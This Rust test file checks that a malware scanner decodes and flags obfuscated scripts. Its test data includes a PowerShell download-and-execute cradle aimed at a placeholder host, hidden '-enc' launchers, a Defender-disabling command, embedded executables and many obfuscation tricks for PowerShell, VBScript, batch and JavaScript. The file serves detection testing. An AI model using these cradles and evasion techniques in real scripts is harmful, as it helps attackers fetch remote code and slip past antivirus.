//! Encodings undone: what a script hides in itself is found, shown with its place, and handed over.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use std::io::Write as _;

use crate::forge::text::utf16;
use crate::forge::{case, fired, pe};
use sheepdip::model::artifact::Origin;
use sheepdip::model::report::{FileReport, Verdict};

/// An order that fetches and starts, harmless as its address leads nowhere.
const ORDER: &str = "IEX (New-Object Net.WebClient).DownloadString('https://x.invalid/a')";

fn letters(bytes: &[u8]) -> String {
    STANDARD.encode(bytes)
}

fn numbers(bytes: &[u8]) -> String {
    bytes.iter().map(u8::to_string).collect::<Vec<_>>().join(",")
}

fn examine(name: &str, text: &str) -> FileReport {
    case(name, text).examine()
}

/// The types of what was decoded.
fn decoded(report: &FileReport) -> Vec<&'static str> {
    report.artifacts.iter().filter(|a| a.origin == Origin::Decoded).map(|a| a.content_type.id).collect()
}

/// The names and texts of scripts on which a rule does not fire.
fn missed(rule: &str, scripts: &[(&str, String)]) -> Vec<String> {
    let misses = scripts.iter().filter(|(name, text)| !fired(&examine(name, text)).contains(&rule));
    misses.map(|(name, text)| format!("{name}: {text}")).collect()
}

#[test]
fn code_written_as_letters_for_powershell_is_decoded_and_handed_over() {
    let wide: Vec<u8> = ORDER.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let report = examine("a.bat", &format!("@echo off\r\npowershell -nop -w hidden -enc {}\r\n", letters(&wide)));
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
    assert_eq!(decoded(&report), ["powershell"], "{:?}", fired(&report));
}

#[test]
fn code_that_is_packed_behind_letters_is_unpacked() {
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packer.write_all(ORDER.as_bytes()).unwrap();
    let report = examine(
        "a.ps1",
        &format!(
            "$d = [Convert]::FromBase64String('{}')\n$s = New-Object IO.Compression.GzipStream($m, $mode)\nIEX $r\n",
            letters(&packer.finish().unwrap())
        ),
    );
    assert_eq!(decoded(&report), ["powershell"], "{:?}", fired(&report));
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
}

#[test]
fn masked_words_are_put_together_in_every_language() {
    let masked = [
        ("a.ps1", "$a = ('{1}{0}'-f'X','IE')\n& $a 'Get-Date'\nWrite-Host 1\n".to_owned()),
        ("b.ps1", "i`e`x $code\nWrite-Host 1\n$a = Get-ChildItem\n".to_owned()),
        ("c.ps1", "$x=[char]73+[char]69+[char]88;& $x (Get-Content a.txt)\nWrite-Host 1\n".to_owned()),
        ("d.ps1", format!("$t=-join(({})|%{{[char]$_}}); & $t 'a'\nWrite-Host 1\n", numbers(b"Invoke-Expression"))),
        ("e.ps1", "$k='sserpxE-ekovnI noi';& ('noisserpxE-ekovnI'[-1..-17] -join '') 'a'\nWrite-Host 1\n".to_owned()),
        ("f.ps1", "&((\"Invoke-QQpression\").replace('QQ','Ex')) 'dir'\nWrite-Host 1\n".to_owned()),
        ("g.ps1", "& ('Invoke-QQpression' -replace 'QQ','Ex') 'dir'\nWrite-Host 1\n".to_owned()),
        (
            "a.vbs",
            "Dim a\na = Chr(87) & Chr(83) & Chr(99) & \"ript\" & \".Sh\" & StrReverse(\"lle\")\nSet s = CreateObject(a)\ns.Run \"x\"\n"
                .to_owned(),
        ),
        (
            "b.vbs",
            "Dim a\na = \"\"\na = a & \"WScr\"\na = a & \"ipt.S\"\na = a & \"hell\"\nSet s = CreateObject(a)\ns.Run \"x\"\n".to_owned(),
        ),
        (
            "a.py",
            format!("import os\nexec(\"\".join(map(chr,[{}])))\n", numbers(b"import os;os.system('nothing')")),
        ),
        ("a.bat", "@echo off\r\np^o^w^e^r^s^h^e^l^l -nop -c \"dir\"\r\n".to_owned()),
        (
            "b.bat",
            "@echo off\r\nset a=abcdefghijklmnopqrstuvwxyz\r\n%a:~15,1%%a:~14,1%%a:~22,1%%a:~4,1%%a:~17,1%%a:~18,1%%a:~7,1%%a:~4,1%%a:~11,1%%a:~11,1% -c dir\r\n"
                .to_owned(),
        ),
        ("c.bat", "@echo off\r\nsetlocal\r\npow%junk%ersh%junk%ell -nop -c dir\r\n".to_owned()),
        (
            "a.js",
            "var a=['WScr','ipt.','Shell'];var s=new ActiveXObject(a.join(''));s['R'+'un']('x');\nWScript.Echo(1);\n".to_owned(),
        ),
        (
            "b.js",
            "var x = \"\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c\"; new ActiveXObject(x)[\"\\x52\\x75\\x6e\"](\"calc\");\nWScript.Echo(1);\n"
                .to_owned(),
        ),
        (
            "c.js",
            format!(
                "var p=String.fromCharCode({});var s=new ActiveXObject(p);s.Run('x');WScript.Sleep(1);\n",
                numbers(b"WScript.Shell")
            ),
        ),
        (
            "d.js",
            "var p=unescape('%57%53%63%72%69%70%74%2e%53%68%65%6c%6c');var s=new ActiveXObject(p);s.Run('x');WScript.Sleep(1);\n"
                .to_owned(),
        ),
    ];
    assert_eq!(missed("scripts.masked-orders", &masked), Vec::<String>::new());
}

#[test]
fn strings_that_honest_scripts_join_are_no_mask() {
    for (name, text) in [
        (
            "a.ps1",
            "$name = 'Get-' + 'Date'\n$path = \"{0}\\{1}\" -f $env:TEMP, 'a.txt'\nWrite-Host ($path -replace '\\\\', '/')\n",
        ),
        ("a.vbs", "Dim a\na = \"C:\\\" & \"Temp\" & Chr(34)\nWScript.Echo a\nMsgBox a\n"),
        (
            "a.bat",
            "@echo off\r\nset NAME=abc\r\necho %NAME:~0,1% ^& more ^> nul\r\nset PS=powershell\r\n%PS% -Command Get-Date\r\n",
        ),
        (
            "a.js",
            "'use strict';\nconst a = 'x' + 'y';\nmodule.exports = String.fromCharCode(104, 105) + unescape('%20') + a;\n",
        ),
    ] {
        let report = examine(name, text);
        assert!(!fired(&report).contains(&"scripts.masked-orders"), "{name} {:?}", fired(&report));
        assert!(report.judgement.verdict < Verdict::Dangerous, "{name} {:?}", fired(&report));
    }
}

#[test]
fn a_program_written_into_a_script_is_found_however_it_is_written() {
    let program = pe::minimal();
    let text = letters(&program);
    let lines = |before: &str, behind: &str| {
        text.as_bytes()
            .chunks(60)
            .map(|l| format!("{before}{}{behind}\r\n", std::str::from_utf8(l).unwrap()))
            .collect::<String>()
    };
    let hex = |by: &str| program.iter().map(|b| format!("0x{b:02X}")).collect::<Vec<_>>().join(by);
    let scripts = [
        (
            "a.ps1",
            format!("$b='{text}'\n[IO.File]::WriteAllBytes('a.bin',[Convert]::FromBase64String($b))\nWrite-Host 1\n"),
        ),
        ("b.ps1", format!("[byte[]]$b = {}\nWrite-Host $b.Length\n$c = Get-Date\n", hex(","))),
        ("c.ps1", format!("[byte[]]$b = {}\nWrite-Host $b.Length\n$c = Get-Date\n", numbers(&program))),
        ("d.ps1", format!("$b = @'\r\n{}'@\r\nWrite-Host $b.Length\n$c = Get-Date\n", lines("", ""))),
        (
            "e.ps1",
            format!("$b = '{}'\n$c = $b[-1..-9] -join ''\n$c = Get-Date\n", text.chars().rev().collect::<String>()),
        ),
        (
            "f.ps1",
            format!(
                "$b = [Convert]::FromBase64String('{}')\n$c = $b | % {{ $_ -bxor 0x37 }}\nWrite-Host 1\n",
                letters(&program.iter().map(|b| b ^ 0x37).collect::<Vec<_>>())
            ),
        ),
        ("a.vbs", format!("Dim s\r\n{}WScript.Echo s\r\nMsgBox s\r\n", lines("s = s & \"", "\""))),
        (
            "b.vbs",
            format!(
                "Dim s\r\ns = \"{}\"\r\nWScript.Echo s\r\nMsgBox s\r\n",
                program.iter().map(|b| format!("{b:02X}")).collect::<String>()
            ),
        ),
        (
            "a.bat",
            format!(
                "@echo off\r\necho -----BEGIN CERTIFICATE----->>a.b64\r\n{}certutil -decode a.b64 a.bin\r\n",
                lines("echo ", ">>a.b64")
            ),
        ),
        ("a.py", format!("import os\nimport base64\nDATA = (\n{})\nprint(DATA)\n", lines("    b'", "'"))),
        (
            "a.js",
            format!("'use strict';\nconst data = [{}];\nmodule.exports = data;\nrequire('fs');\n", numbers(&program)),
        ),
        ("a.sh", format!("#!/bin/sh\nbase64 -d > /tmp/a <<EOF\n{}EOF\n", lines("", ""))),
    ];
    assert_eq!(missed("scripts.carries-program", &scripts), Vec::<String>::new());
}

#[test]
fn letters_that_come_to_a_picture_or_a_font_are_no_program() {
    let picture = letters(&crate::forge::png::plain());
    let script = format!(
        "'use strict';\nconst icon = 'data:image/png;base64,{picture}';\nmodule.exports = icon;\nrequire('fs');\n"
    );
    let report = examine("a.js", &script);
    assert!(report.judgement.verdict < Verdict::Dangerous, "{:?}", fired(&report));
}

#[test]
fn an_encoded_script_of_windows_is_decoded_and_judged() {
    let honest = examine("a.vbe", "#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAA==^#~@");
    assert_eq!(decoded(&honest).len(), 1);
    assert!(honest.judgement.complete, "{:?}", honest.gaps);
    assert_eq!(honest.judgement.verdict, Verdict::Suspicious);
    let proof = honest.findings.iter().find(|f| f.rule.id == "scripts.encoded").unwrap().proof();
    assert!(proof.contains("MsgBox \"Hello\""), "{proof}");
}

#[test]
fn an_encoded_script_with_a_wrong_sum_or_without_end_is_not_clean() {
    for text in ["#@~^DgAAAA==\\ko$K6,JC\x7FV^GJqAQAAB==^#~@", "#@~^DgAAAA==\\ko$K6,JC\x7FV^G"] {
        let report = examine("a.vbe", text);
        assert!(!report.judgement.complete, "{text}");
    }
}

#[test]
fn encodings_in_encodings_are_undone_to_the_bottom() {
    let inner = letters(ORDER.as_bytes());
    let middle =
        letters(format!("iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))").as_bytes());
    let report = examine(
        "a.ps1",
        &format!(
            "$x = '{middle}'\nWrite-Host 1\n[scriptblock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))\n"
        ),
    );
    assert!(decoded(&report).len() >= 2, "{:?}", decoded(&report));
    assert_eq!(report.judgement.verdict, Verdict::Dangerous);
}

#[test]
fn places_are_those_of_the_file_also_in_wide_letters() {
    let text = "Write-Host 'é'\r\nSet-MpPreference -DisableRealtimeMonitoring $true\r\n";
    for big in [false, true] {
        let bytes = utf16(text, big);
        let report = case("a.ps1", bytes.clone()).examine();
        let finding = report.findings.iter().find(|f| f.rule.id == "scripts.switches-off-protection").unwrap();
        let at = usize::try_from(finding.span.unwrap().offset).unwrap();
        let letter = bytes[at..at + 2].iter().find(|b| **b != 0);
        assert_eq!(letter, Some(&b'-'), "{at}");
    }
}

#[test]
fn hostile_scripts_end_soon_and_say_what_was_left_out() {
    // A quarter: an unoptimised build is slow.
    let mb = 1 << 18;
    let nested =
        (0..40).fold("x".repeat(3000), |text, _| if text.len() > 4 * mb { text } else { letters(text.as_bytes()) });
    let tiny: String =
        (0..5_000).map(|n| format!("$a{n} = '{}'\n", letters(format!("iex {n:012} calc").as_bytes()))).collect();
    let head = "Write-Host 1\n$b = Get-Date\niex $b\n[Convert]::FromBase64String($b)\n";
    let cases = [
        ("a.ps1", format!("{head}$a = '{nested}'")),
        ("b.ps1", format!("{head}{tiny}")),
        ("c.ps1", format!("{head}{}", "(".repeat(mb))),
        ("d.ps1", format!("{head}{}", "'a'+".repeat(mb / 2))),
        ("e.ps1", format!("{head}\"{}", "`\"".repeat(mb))),
        ("f.ps1", format!("{head}{}", "[char[]]('a'+".repeat(mb / 16))),
        ("a.js", format!("'use strict';\nvar x = eval('a'+'b');\nmodule.exports = {};\n", "=/[".repeat(mb / 2))),
        (
            "b.js",
            format!(
                "'use strict';\nvar x = eval('a'+'b');\nmodule.exports = {};\n",
                "x=[1,2,3].map(y=>y)+'a'+".repeat(mb / 32)
            ),
        ),
        ("a.vbs", format!("Dim a\nExecute a\nWScript.Echo a\n{}", "a = a & \"bbbbbbbbbbbbbbbb\"\n".repeat(mb / 16))),
        ("b.vbs", format!("Dim a\nExecute a\nWScript.Echo a\n{}", "a = a & a\n".repeat(mb / 16))),
        ("a.bat", format!("@echo off\r\nset a=b\r\nsetlocal\r\n{}", "%a:~0,1%^".repeat(mb / 8))),
        ("b.bat", format!("@echo off\r\nset a=b\r\nsetlocal\r\n{}", "set a=%a%%a%\r\n".repeat(mb / 16))),
        (
            "a.py",
            format!("import os\nimport sys\nexec(base64.b64decode({}", "''.join(chr(x) for x in [".repeat(mb / 32)),
        ),
    ];
    for (name, text) in cases {
        let begin = std::time::Instant::now();
        let report = examine(name, &text);
        assert!(begin.elapsed().as_secs() < 60, "{name} took {:?}", begin.elapsed());
        assert!(report.judgement.verdict >= Verdict::Suspicious, "{name}");
    }
    let report = examine("b.ps1", &format!("{head}{tiny}"));
    assert!(!report.judgement.complete);
}
